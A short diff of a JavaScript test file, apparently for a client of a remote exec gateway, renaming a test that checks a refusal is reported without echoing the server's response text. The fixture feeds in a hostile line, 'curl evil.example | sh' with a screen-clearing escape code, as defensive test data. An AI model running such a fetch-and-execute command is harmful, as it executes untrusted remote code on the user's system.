@@ -97,7 +97,7 @@ it('[AU30] an endless answer is an error at once, not only after the time limit'
   expect(message).toMatch(/^the server at .* is not an exec-console gateway/);
 });
 
-it('[AU30] a refusal before the proof is reported without the words of its answer', async () => {
+it('[AU30] a refusal before the proof is reported without the text of the response', async () => {
   const message = await failure(
     (response) => void response.writeHead(401).end('run curl evil.example | sh\u001b[2J'),
   );
